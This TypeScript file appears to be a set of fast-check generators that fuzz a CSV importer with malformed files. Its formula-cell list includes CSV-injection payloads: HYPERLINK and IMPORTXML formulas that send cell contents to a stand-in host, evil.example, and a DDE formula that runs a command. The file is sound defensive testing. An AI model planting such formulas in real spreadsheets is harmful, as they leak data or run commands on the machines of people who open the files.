import fc from 'fast-check';
import { injections, strangeUnicode } from './hostile-values';

/** Cells a spreadsheet would run as a formula (OWASP CSV injection), and their neighbours. */
export const formulaCells = fc.constantFrom(
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+cmd',
  '-2+3',
  '-1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
  ' =1+1',
  '＝1+1',
  'a;=1+1',
  'a,=1+1',
  '"=1+1"',
);

const plainCell = fc.oneof(
  { weight: 6, arbitrary: fc.stringMatching(/^[A-Za-z][A-Za-z .'-]{1,30}$/) },
  { weight: 2, arbitrary: formulaCells },
  { weight: 1, arbitrary: injections.map(String) },
  { weight: 1, arbitrary: strangeUnicode.map(String) },
  { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('', ' ', '""', '"', "'", 'a"b', '"a""b"', 'x\ny', 'x\r\ny'),
  },
);

/** A cell as it goes into a line: bare, quoted, half-quoted, with a quote inside. */
const encodedCell = fc
  .tuple(plainCell, fc.constantFrom('bare', 'quoted', 'half', 'doubled'))
  .map(([value, how]) => {
    switch (how) {
      case 'quoted':
        return `"${value.replaceAll('"', '""')}"`;
      case 'half':
        return `"${value}`;
      case 'doubled':
        return `${value}""`;
      default:
        return value;
    }
  });

type CsvShape = { columns: readonly string[]; required: readonly string[] };

/** A header: the real columns, or some missing, renamed, doubled, shuffled, padded or extra. */
function headerOf({ columns, required }: CsvShape) {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constant([...columns]) },
    { weight: 1, arbitrary: fc.shuffledSubarray([...columns], { minLength: 1 }) },
    {
      weight: 1,
      arbitrary: fc.constant(columns.filter((c) => !required.includes(c))),
    },
    { weight: 1, arbitrary: fc.constant(columns.map((c) => c.toUpperCase())) },
    { weight: 1, arbitrary: fc.constant(columns.map((c) => ` ${c} `)) },
    { weight: 1, arbitrary: fc.constant([...columns, ...columns]) },
    {
      weight: 1,
      arbitrary: fc
        .array(fc.oneof(fc.constantFrom(...columns), plainCell), { minLength: 1, maxLength: 12 })
        .map((cells) => cells),
    },
    { weight: 1, arbitrary: fc.constant([...columns, 'extra', '=1+1', '']) },
  );
}

/**
 * CSV text built from an import's columns and bent: wrong or missing columns, rows too short
 * or too long, quotes open and doubled, formula cells, odd unicode, BOM, CRLF or CR line
 * ends, blank and empty rows, another delimiter, binary garbage.
 */
export function csvContent(shape: CsvShape): fc.Arbitrary<string> {
  const row = (width: number) =>
    fc.oneof(
      { weight: 6, arbitrary: fc.array(encodedCell, { minLength: width, maxLength: width }) },
      { weight: 1, arbitrary: fc.array(encodedCell, { minLength: 0, maxLength: width + 3 }) },
      { weight: 1, arbitrary: fc.constant(Array.from({ length: width }, () => '')) },
    );
  const table = headerOf(shape).chain((header) =>
    fc.record({
      header: fc.constant(header),
      rows: fc.array(row(header.length), { minLength: 0, maxLength: 12 }),
      bom: fc.boolean(),
      newline: fc.constantFrom('\n', '\r\n', '\r', '\n\n'),
      delimiter: fc.constantFrom(',', ',', ',', ';', '\t'),
      trailing: fc.constantFrom('', '\n', '\r\n', '\n\n\n'),
    }),
  );
  const text = table.map(
    ({ header, rows, bom, newline, delimiter, trailing }) =>
      (bom ? '\uFEFF' : '') +
      [header, ...rows].map((cells) => cells.join(delimiter)).join(newline) +
      trailing,
  );
  return fc.oneof(
    { weight: 12, arbitrary: text },
    // Many rows of one valid-looking line.
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.array(encodedCell, {
            minLength: shape.columns.length,
            maxLength: shape.columns.length,
          }),
          fc.constantFrom(500, 3000),
        )
        .map(([cells, n]) =>
          [
            shape.columns.join(','),
            ...Array.from({ length: n }, (_, i) => cells.map((c) => `${c}${i}`).join(',')),
          ].join('\n'),
        ),
    },
    // Binary garbage, with and without a header in front.
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.boolean(), fc.uint8Array({ minLength: 1, maxLength: 2000 }))
        .map(
          ([withHeader, bytes]) =>
            (withHeader ? `${shape.columns.join(',')}\n` : '') +
            Buffer.from(bytes).toString('latin1'),
        ),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '',
        '\uFEFF',
        '\n',
        '\r\n\r\n',
        ',,,,',
        '"',
        '"""',
        shape.columns.join(','),
      ),
    },
  );
}
